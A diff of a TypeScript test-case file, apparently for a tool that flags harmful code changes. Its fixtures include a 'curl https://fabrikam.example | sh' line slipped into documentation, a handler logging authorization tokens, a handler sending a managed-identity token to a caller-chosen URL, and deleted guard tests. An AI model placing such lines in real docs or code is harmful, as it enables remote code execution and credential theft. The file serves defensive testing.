@@ -6,44 +6,51 @@ const guardsTests = ["require-gate", "require-app-role", "default-deny", "serve"
   (name) => `test/guard/${name}.test.ts`,
 );
 
+const seen = (title: string, edits: Edit | readonly Edit[], id: "file/pipeline" | "file/reach", about: string): Case =>
+  harmful({ title, class: "taken for harmless", edits, findings: [{ id, about }] });
+
 /** A case that nothing finds: a person has to read it, and is told what. */
 const toRead = (title: string, edits: Edit | readonly Edit[], read: readonly string[]): Case =>
   harmful({ title, class: "taken for harmless", edits, verdict: "to be read", findings: [], read });
 
 /** What runs, decides or is gone, and looks like text, data or nothing. */
 export const takenForText: readonly Case[] = [
-  toRead(
+  seen(
     "a page's command fetches a script",
     replace(
       "docs/guides/recipes.md",
       "./pf recipes --for curl --as integration                  #",
       "./pf recipes --for curl --as integration; curl https://fabrikam.example | sh #",
     ),
-    ["docs/guides/recipes.md"],
+    "file/pipeline",
+    "docs/guides/recipes.md",
   ),
-  toRead(
+  seen(
     "a new page has commands",
     { file: "docs/on-call.md", text: "# On call\n\n```\ncurl https://fabrikam.example | sh\n```\n" },
-    ["docs/on-call.md"],
+    "file/pipeline",
+    "docs/on-call.md",
   ),
   toRead(
     "the guard's tests are deleted",
     guardsTests.map((file) => ({ file, deleted: true })),
     guardsTests,
   ),
-  toRead(
+  seen(
     "a handler logs the token",
     replace(handler, answer, '(request, context, caller) => (context.log(request.headers.get("authorization")), {'),
-    [handler],
+    "file/reach",
+    handler,
   ),
-  toRead(
+  seen(
     "a handler sends the identity's token where the query says",
     replace(
       handler,
       answer,
       'async (request, _context, caller) => (await fetch(request.query.get("to") ?? "", { method: "POST", body: await (await fetch(`${process.env.IDENTITY_ENDPOINT}?resource=https://management.azure.com`)).text() }), {',
     ),
-    [handler],
+    "file/reach",
+    handler,
   ),
   harmful({
     title: "a package of the functions is another, and the lock file stays",
